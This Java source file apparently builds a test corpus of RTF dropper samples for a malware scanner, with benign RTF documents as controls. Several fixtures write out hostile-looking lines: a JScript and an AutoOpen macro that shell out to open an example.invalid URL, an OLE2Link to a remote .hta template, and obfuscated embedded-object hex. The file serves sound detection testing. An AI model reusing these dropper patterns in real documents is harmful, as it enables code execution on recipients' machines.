package org.peekaboo.bench;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.peekaboo.office.testing.OfficeFiles;
import org.peekaboo.ruleset.testing.RtfFiles;

/**
 * RTF droppers as they are mailed (an Equation Editor object, an OLE2Link, packaged programs and
 * scripts, an embedded macro document, an object with an overlong class name, hex hidden from
 * scanners) and RTF documents with ordinary objects to compare (a picture, a table, a Paint
 * picture, an Excel sheet with a harmless macro). Harmless: the equation is junk bytes, the
 * program an MZ header and zeros, the links and scripts name example.invalid, nothing runs them.
 */
public final class DropperRtf {
    private static final String MALICIOUS = "malicious";
    /** Generated benign documents share the class of the benign macro documents. */
    private static final String BENIGN = "benign-macros";
    static final String JSCRIPT = "var s = new ActiveXObject('WScript.Shell');\r\n"
            + "s.Run('cmd /c start http://example.invalid/j', 0);\r\n";

    private DropperRtf() {
    }

    /** The malicious RTF documents, then the benign ones. */
    public static List<DropperCorpus.Sample> samples() {
        byte[] equation = RtfFiles.ole1Embedded("Equation.3", RtfFiles.equationOle2());
        Map<String, String> autoOpen = OfficeFiles.module("ThisDocument", "Sub AutoOpen()",
                "    Shell \"cmd /c start http://example.invalid/r\", 0", "End Sub");
        Map<String, String> vat = OfficeFiles.module("Module1", "Option Explicit",
                "Public Function Gross(ByVal net As Double) As Double", "    Gross = Round(net * 1.19, 2)",
                "End Function");
        return List.of(
                sample(MALICIOUS, "rtf-equation-editor.rtf", RtfFiles.rtf(RtfFiles.object("\\objemb", "Equation.3",
                        equation))),
                sample(MALICIOUS, "rtf-equation-obfuscated.rtf", ("{\\rt{\\object\\objemb\\objupdate"
                        + "{\\*\\objdata " + RtfFiles.obfuscated(RtfFiles.hex(equation)) + "}}}")
                        .getBytes(StandardCharsets.ISO_8859_1)),
                sample(MALICIOUS, "rtf-ole2link-autolink.rtf", RtfFiles.rtf(RtfFiles.object("\\objautlink\\rsltpict",
                        "Word.Document.8", RtfFiles.ole1Embedded("OLE2Link",
                                RtfFiles.ole2Link("http://example.invalid/template.hta"))))),
                sample(MALICIOUS, "rtf-package-exe.rtf", RtfFiles.rtf(RtfFiles.embedded("Package",
                        RtfFiles.packagerData("invoice.exe", DropperPdfs.fakeProgram())))),
                sample(MALICIOUS, "rtf-package-js.rtf", RtfFiles.rtf(RtfFiles.embedded("Package",
                        RtfFiles.packagerData("Rechnung.js", JSCRIPT.getBytes(StandardCharsets.ISO_8859_1))))),
                sample(MALICIOUS, "rtf-embedded-macro-doc.rtf", RtfFiles.rtf(RtfFiles.embedded("Word.Document.8",
                        OfficeFiles.doc(autoOpen)))),
                sample(MALICIOUS, "rtf-long-class-name.rtf", RtfFiles.rtf(RtfFiles.object("\\objemb", "Equation",
                        RtfFiles.ole1WithLongClassName(300)))),
                sample(BENIGN, "rtf-table.rtf", RtfFiles.rtf(RtfFiles.table())),
                sample(BENIGN, "rtf-picture.rtf", RtfFiles.rtf(RtfFiles.picture(), RtfFiles.table())),
                sample(BENIGN, "rtf-paint-object.rtf", RtfFiles.rtf(RtfFiles.embedded("PBrush", bitmap()))),
                sample(BENIGN, "rtf-excel-sheet-object.rtf", RtfFiles.rtf(RtfFiles.embedded("Excel.Sheet.8",
                        OfficeFiles.xls(vat, false, false)))));
    }

    /** A tiny Windows bitmap: what Paint objects carry. */
    static byte[] bitmap() {
        byte[] bmp = new byte[70];
        bmp[0] = 'B';
        bmp[1] = 'M';
        bmp[2] = 70;
        bmp[10] = 62;
        bmp[14] = 40;
        bmp[18] = 1;
        bmp[22] = 1;
        bmp[26] = 1;
        bmp[28] = 1;
        return bmp;
    }

    private static DropperCorpus.Sample sample(String directory, String name, byte[] bytes) {
        return new DropperCorpus.Sample(directory, name, bytes);
    }
}
